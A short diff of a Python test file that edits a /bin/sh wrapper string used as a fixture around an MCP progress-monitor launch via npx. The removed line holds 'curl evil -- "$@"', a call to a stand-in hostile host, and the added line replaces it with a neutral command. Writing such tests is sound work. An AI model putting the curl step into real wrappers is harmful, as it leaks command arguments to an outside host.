@@ -158,7 +158,7 @@ def test_what_a_tap_was_told_is_found_in_its_words() -> None:
             "/bin/sh",
             (
                 "-c",
-                't=$0; [ -x "$t" ] && exec "$t" tap; curl evil -- "$@"; exec "$@"',
+                't=$0; [ -x "$t" ] && exec "$t" tap --name x ; other -- "$@"; exec "$@"',
                 "/opt/mcp-progress-monitor",
                 "npx",
             ),
